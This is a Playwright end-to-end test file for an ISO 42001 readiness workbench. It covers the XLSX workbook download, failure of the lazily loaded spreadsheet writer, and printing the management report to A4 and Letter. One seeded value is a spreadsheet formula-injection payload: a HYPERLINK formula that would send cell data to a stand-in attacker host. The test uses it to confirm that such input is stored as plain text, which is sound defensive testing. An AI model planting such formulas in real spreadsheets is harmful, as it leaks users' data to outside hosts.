/**
 * The workbench's files and reports (issue 15, item 4): the workbook downloaded and read back with
 * read-excel-file, its writer loaded only when asked for and a failed load said plainly; the
 * management report on screen, printed without the page's chrome, at a sane number of A4 and
 * Letter pages.
 */
import { readFileSync } from 'node:fs';
import readExcelFile from 'read-excel-file/node';
import { parse } from 'yaml';
import { controlsFromStandard } from '../../src/lib/assessment/questionBank';
import { emptyWorkspace } from '../../src/lib/workbench/workspaceFormat';
import type { Workspace } from '../../src/lib/workbench/workspaceSchema';
import {
  AREA_HEADERS,
  EVIDENCE_HEADERS,
  GAP_HEADERS,
  SHEET_NAMES,
  SOA_HEADERS,
} from '../../src/lib/workbook/readinessSheets';
import { readZipEntries } from '../unit/support/zipEntries';
import { evidence, soaEntry, system } from '../unit/workbench/builders';
import { JOURNEY_SCOPING, areas, assessmentData, journeyAnswers } from './support/assessment';
import { expect, test, type Page } from './support/fixture';

// axe over a page with the long report, the workbook's writer and two PDFs: each test can take more
// than the default minute on a busy machine.
test.describe.configure({ timeout: 180_000 });

const FILES = '/assessment/workbench/#files';
const WORKSPACE_KEY = 'iso42001:workspace';
const WRITER_CHUNK = /\/buildWorkbook\.[\w-]+\.js$/;

// Text a person might type that a spreadsheet would run as a formula if it were written as one.
const FORMULA_SYSTEM = '=HYPERLINK("http://attacker.example/?d="&A1,"Open the policy")';
const PLUS_OWNER = '+41 22 555 01 00';
const AT_TITLE = '@SUM(A1:A9) policy';
const MINUS_NOTE = '-2 points since the last review';

const CONTROL_COUNT = controlsFromStandard(parse(readFileSync('content/data/standard.yaml', 'utf8'))).length;

function seededWorkspace(): Workspace {
  const base = emptyWorkspace(assessmentData.contentVersion, new Date('2026-11-01T09:00:00Z'));
  return {
    ...base,
    assessment: { ...base.assessment, scoping: JOURNEY_SCOPING, answers: journeyAnswers() },
    inventory: {
      changedAt: '2026-11-01T09:00:00.000Z',
      systems: [
        system('sys-cv', {
          name: FORMULA_SYSTEM,
          owner: PLUS_OWNER,
          euAiAct: { tier: 'high-risk', source: 'manual', checkedOn: '' },
          impactAssessment: { status: 'not-started', date: '' },
        }),
        system('sys-bot', { name: 'Support chatbot' }),
      ],
    },
    soa: { entries: [soaEntry('A.2.2', { owner: PLUS_OWNER, notes: MINUS_NOTE })], versions: [] },
    evidence: { items: [evidence('ev-policy', { title: AT_TITLE, notes: MINUS_NOTE })] },
  };
}

async function openFiles(site: {
  open: (path: string) => Promise<unknown>;
  storeBeforeLoad: (e: Record<string, string>) => Promise<void>;
}) {
  await site.storeBeforeLoad({ [WORKSPACE_KEY]: JSON.stringify(seededWorkspace()) });
  await site.open(FILES);
}

const savedWorkspace = (page: Page) => page.evaluate((key) => localStorage.getItem(key), WORKSPACE_KEY);

/** Every <c> element of every worksheet of the archive. */
function worksheetCells(files: Map<string, string>) {
  return [...files]
    .filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
    .flatMap(([sheet, xml]) =>
      [...xml.matchAll(/<c\b([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map((match) => ({
        sheet,
        attributes: match[1] ?? '',
        inner: match[2] ?? '',
      })),
    );
}

test('the workbook: six sheets read back with their headers and rows, typed text never a formula', async ({ site }) => {
  const { page } = site;
  const writerRequests: string[] = [];
  page.on('request', (request) => {
    if (WRITER_CHUNK.test(new URL(request.url()).pathname)) writerRequests.push(request.url());
  });
  await openFiles(site);
  await expect(page.getByRole('tab', { name: 'Files and reports' })).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByRole('heading', { name: 'Files and reports', level: 2 })).toBeVisible();
  await site.expectNoAxeViolations('/assessment/workbench/#files');
  expect(writerRequests, 'the spreadsheet writer is not loaded before it is asked for').toEqual([]);

  await page.getByLabel('Organization').fill('Example Org Ltd');
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download the workbook (XLSX)' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^iso42001-readiness-workbook-\d{4}-\d\d-\d\d\.xlsx$/);
  await expect(page.getByRole('status').filter({ hasText: 'The workbook was downloaded' })).toHaveText(
    'The workbook was downloaded (6 sheets).',
  );
  expect(writerRequests).toHaveLength(1);

  const buffer = readFileSync((await file.path())!);
  const sheets = await readExcelFile(buffer, { trim: false });
  expect(sheets.map((sheet) => sheet.sheet)).toEqual([
    'Summary',
    'Readiness by area',
    'Gap list',
    'Statement of Applicability',
    'Evidence register',
    'AI system inventory',
  ]);
  const data = (name: string) => sheets.find((sheet) => sheet.sheet === name)?.data ?? [];
  expect(data(SHEET_NAMES.summary)[0]).toEqual(['Item', 'Value']);
  expect(data(SHEET_NAMES.summary).find((row) => row[0] === 'Organization')?.[1]).toBe('Example Org Ltd');
  expect(data(SHEET_NAMES.areas)[0]).toEqual([...AREA_HEADERS]);
  // One row per area of the question bank, then clauses, Annex A and overall.
  expect(data(SHEET_NAMES.areas)).toHaveLength(1 + areas.length + 3);
  expect(data(SHEET_NAMES.gaps)[0]).toEqual([...GAP_HEADERS]);
  const gapRows = data(SHEET_NAMES.gaps).slice(1);
  expect(gapRows.length).toBeGreaterThan(1);
  // The high-risk system without an impact assessment is a priority-1 gap, named as typed.
  expect(gapRows.find((row) => row[2] === FORMULA_SYSTEM)?.slice(0, 2)).toEqual([
    1,
    'AI system without impact assessment',
  ]);
  expect(data(SHEET_NAMES.soa)[0]).toEqual([...SOA_HEADERS]);
  expect(data(SHEET_NAMES.soa)).toHaveLength(1 + CONTROL_COUNT);
  expect(data(SHEET_NAMES.evidence)[0]).toEqual([...EVIDENCE_HEADERS]);
  expect(data(SHEET_NAMES.evidence)).toHaveLength(1 + 1);
  expect(data(SHEET_NAMES.inventory)[0]?.slice(0, 4)).toEqual(['ID', 'Name', 'Purpose', 'Owner']);
  expect(
    data(SHEET_NAMES.inventory)
      .slice(1)
      .map((row) => row[1]),
  ).toEqual([FORMULA_SYSTEM, 'Support chatbot']);

  // Typed text comes back exactly as typed, as text; the file holds no formula at all.
  const typed = sheets.flatMap((sheet) => sheet.data.flat()).filter((cell) => typeof cell === 'string');
  for (const text of [FORMULA_SYSTEM, PLUS_OWNER, AT_TITLE, MINUS_NOTE]) expect(typed).toContain(text);
  const cells = worksheetCells(readZipEntries(buffer));
  expect(cells.length).toBeGreaterThan(CONTROL_COUNT * SOA_HEADERS.length);
  expect(
    cells.filter((cell) => /<f[\s>/]/.test(cell.inner)),
    'formula elements',
  ).toEqual([]);
  expect(
    cells.filter((cell) => /\bt="(str|e)"/.test(cell.attributes)),
    'formula-result cells',
  ).toEqual([]);
  const startsLikeFormula = cells.filter(
    (cell) => /^<v>[=+\-@]/.test(cell.inner) || /<t[^>]*>[=+\-@]/.test(cell.inner),
  );
  expect(startsLikeFormula, 'cells whose own value starts with = + - @ (text is in shared strings)').toEqual([]);
  expect(await savedWorkspace(page), 'downloading changes nothing saved').toBe(JSON.stringify(seededWorkspace()));
});

test('a spreadsheet writer that cannot load is said plainly, and nothing changes', async ({ site }) => {
  const { page } = site;
  site.problems.allow(/Failed to load resource|buildWorkbook|dynamically imported module/);
  await openFiles(site);
  await page.route(WRITER_CHUNK, (route) => route.abort());
  await page.getByRole('button', { name: 'Download the workbook (XLSX)' }).click();
  await expect(page.getByRole('alert')).toContainText('The workbook could not be made');
  await expect(page.getByRole('alert')).toContainText('Nothing in your workspace was changed');
  await expect(page.getByRole('button', { name: 'Download the workbook (XLSX)' })).not.toHaveAttribute(
    'aria-disabled',
    'true',
  );
  expect(await savedWorkspace(page)).toBe(JSON.stringify(seededWorkspace()));
  await site.expectNoAxeViolations('/assessment/workbench/#files after a failed load');
});

test('the management report: on screen, then printed alone on A4 and Letter pages', async ({ site }) => {
  const { page } = site;
  await page.addInitScript(() => {
    (window as unknown as { printed: number }).printed = 0;
    window.print = () => void ((window as unknown as { printed: number }).printed += 1);
  });
  await openFiles(site);
  await page.getByLabel('Organization').fill('Example Org Ltd');
  await page.getByLabel('Report version').fill('v1.0 for the board');
  const printButton = page.getByRole('button', { name: 'Print the management report' });
  await printButton.click();

  const report = page.getByRole('article', { name: 'Management report' });
  await expect(report.getByRole('heading', { name: 'Management report', level: 2 })).toBeFocused();
  await expect.poll(() => page.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(1);
  await expect(report).toContainText('Example Org Ltd');
  await expect(report).toContainText('v1.0 for the board');
  await expect(report).toContainText(assessmentData.contentVersion);
  for (const heading of ['Summary', 'Most urgent gaps', 'Statement of Applicability', 'Timeline to certification'])
    await expect(report.getByRole('heading', { name: heading, level: 3 })).toBeVisible();
  await expect(report.getByRole('img', { name: 'Readiness by area, 0 to 100%' })).toBeVisible();
  await expect(report.getByRole('table', { name: 'Most urgent gaps' }).getByRole('row')).toHaveCount(1 + 10);
  await expect(report.getByRole('table', { name: 'Annex A controls' }).getByRole('row')).toHaveCount(1 + CONTROL_COUNT);
  await expect(report.getByRole('table', { name: 'Phases in weeks' })).toBeVisible();
  await site.expectNoAxeViolations('/assessment/workbench/#files with the management report');

  await page.emulateMedia({ media: 'print' });
  await expect(report.getByRole('heading', { name: 'Management report' })).toBeVisible();
  await expect(report.getByRole('img', { name: 'Readiness by area, 0 to 100%' })).toBeVisible();
  for (const hidden of [
    page.locator('header').first(),
    page.getByRole('heading', { level: 1 }),
    page.getByRole('tablist', { name: 'Workbench views' }),
    page.getByRole('heading', { name: 'Files and reports' }),
    page.getByRole('button', { name: 'Print again' }),
    page.getByRole('button', { name: 'Close the report' }),
    page.getByRole('contentinfo'),
  ])
    await expect(hidden).toBeHidden();

  // Cover, summary, gaps and the SoA with the timeline each start a page: at least 4, and the SoA's
  // rows do not run to more than a few pages on either paper size.
  const pageCount = async (format: 'A4' | 'Letter') => {
    const pdf = (await page.pdf({ format, preferCSSPageSize: false })).toString('latin1');
    return pdf.match(/\/Type\s*\/Page\b/g)?.length ?? 0;
  };
  const a4 = await pageCount('A4');
  const letter = await pageCount('Letter');
  expect(a4).toBeGreaterThanOrEqual(4);
  expect(a4).toBeLessThanOrEqual(10);
  expect(letter).toBeGreaterThanOrEqual(4);
  expect(Math.abs(letter - a4)).toBeLessThanOrEqual(2);

  await page.emulateMedia({ media: 'screen' });
  await page.getByRole('button', { name: 'Print again' }).click();
  await expect.poll(() => page.evaluate(() => (window as unknown as { printed: number }).printed)).toBe(2);
  await page.getByRole('button', { name: 'Close the report' }).click();
  await expect(report).toHaveCount(0);
  await expect(printButton).toBeFocused();
});
